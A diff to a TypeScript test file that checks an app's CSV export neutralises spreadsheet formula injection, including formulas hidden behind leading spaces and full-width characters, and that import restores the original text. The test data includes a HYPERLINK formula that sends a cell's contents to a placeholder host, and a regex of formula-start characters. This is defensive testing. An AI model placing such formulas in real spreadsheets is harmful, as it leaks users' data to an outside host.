@@ -4,6 +4,7 @@ import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSy
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
 import { openDatabase, type Database } from '../../electron/core/db/database.ts';
 import { OutboxStore } from '../../electron/core/outbox-store.ts';
 import { ReportService } from '../../electron/core/report-service.ts';
@@ -12,6 +13,7 @@ import { MetaStore } from '../../electron/core/meta-store.ts';
 import { EXPORT_COLUMNS, writeReportsCsv } from '../../electron/core/csv-export.ts';
 import { exportReportsToFile } from '../../electron/core/csv-export-file.ts';
 import { importReportsCsv } from '../../electron/core/csv-import.ts';
+import { neutraliseFormula, unescapeFormula } from '../../electron/core/csv-formula.ts';
 import { AppError } from '../../shared/errors.ts';
 import type { ExportQuery } from '../../shared/export-query.ts';
 
@@ -41,8 +43,8 @@ function newOutbox(): { store: OutboxStore; form: ReportService } {
 }
 
 const HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"open")';
-/** What Excel would run as a formula: the OWASP list and the full-width forms csv-stringify knows. */
-const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+/** What Excel would run as a formula: the OWASP list and the full-width forms, also after spaces (it skips them). */
+const FORMULA_START = /^(?:[\t\r]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;
 
 async function exported(store: OutboxStore, query: ExportQuery = {}, options: Parameters<typeof writeReportsCsv>[3] = {}): Promise<string> {
   let text = '';
@@ -81,6 +83,30 @@ describe('the CSV writer', () => {
     assert.equal(rows[3]?.description, 'Line one\nline "two"; käytävässä 12 €');
     assert.equal(rows[3]?.invoices, '594294:1234 594295:1235');
     for (const row of rows) for (const cell of Object.values(row)) assert.doesNotMatch(cell, FORMULA_START, cell);
+  });
+
+  test('a cell with spaces before its formula (plain, non-breaking, ideographic) is neutralised too', async () => {
+    const { store, form } = newOutbox();
+    // Ropo One's problem text goes into last_error as it came, leading spaces and all.
+    const starts = [' =1+1', '\u00A0=HYPERLINK("http://x.invalid/","open")', '\u3000\uFF1D1+1', '  +2', '\t@x', '\r-3', ' \u00A0 -4', ' \uFF20x'];
+    for (const [i, message] of starts.entries()) {
+      const { entry } = form.create({ status: 'connected', usageplacecode: `W-${i}`, time: '2024-01-04 10:41:40' });
+      store.markFailed(entry.id, NOW.getTime(), { code: 'rejected', message, httpStatus: 400, problem: null });
+    }
+    const rows = rowsOf(await exported(store));
+    assert.deepEqual(rows.map((r) => r.last_error), starts.map((s) => `'${s}`));
+  });
+
+  test('neutralising never leaves a formula start, and the import undoes it exactly', () => {
+    const unit = fc.constantFrom(' ', '\u00A0', '\u3000', '\t', '\r', '\n', "'", '=', '+', '-', '@', '\uFF1D', '\uFF0B', 'a', '1');
+    fc.assert(
+      fc.property(fc.string({ unit, maxLength: 8 }), (value) => {
+        const cell = neutraliseFormula(value);
+        assert.doesNotMatch(cell, FORMULA_START, JSON.stringify(cell));
+        assert.equal(unescapeFormula(cell), value);
+      }),
+      { numRuns: 2000 },
+    );
   });
 
   test('a line break alone inside a value is quoted too (the rows stay rows)', async () => {
